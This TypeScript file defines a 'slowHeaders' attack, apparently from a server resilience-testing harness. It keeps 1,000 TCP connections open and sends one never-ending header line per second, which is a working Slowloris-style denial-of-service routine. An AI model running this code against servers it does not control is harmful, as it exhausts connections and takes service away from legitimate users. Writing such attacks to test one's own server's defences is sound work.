import { setTimeout as sleep } from 'node:timers/promises';
import { TcpPeers } from '../../network/tcp-peers';
import type { Attack } from '../attack';

const connections = 1_000;

/** Requests whose headers never end, a line a second. */
export const slowHeaders: Attack = {
  name: 'headers that never end, a line a second on 1,000 connections',
  async run({ baseUrl }, signal) {
    const peers = new TcpPeers(baseUrl);
    try {
      for (let line = 0; !signal.aborted; line++) {
        while (peers.count < connections) {
          const socket = peers.open('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n').resume();
          socket.once('end', () => socket.destroy());
        }
        peers.send(`X-Line-${line}: 1\r\n`);
        await sleep(1_000, undefined, { signal }).catch(() => undefined);
      }
    } finally {
      peers.close();
    }
  },
};
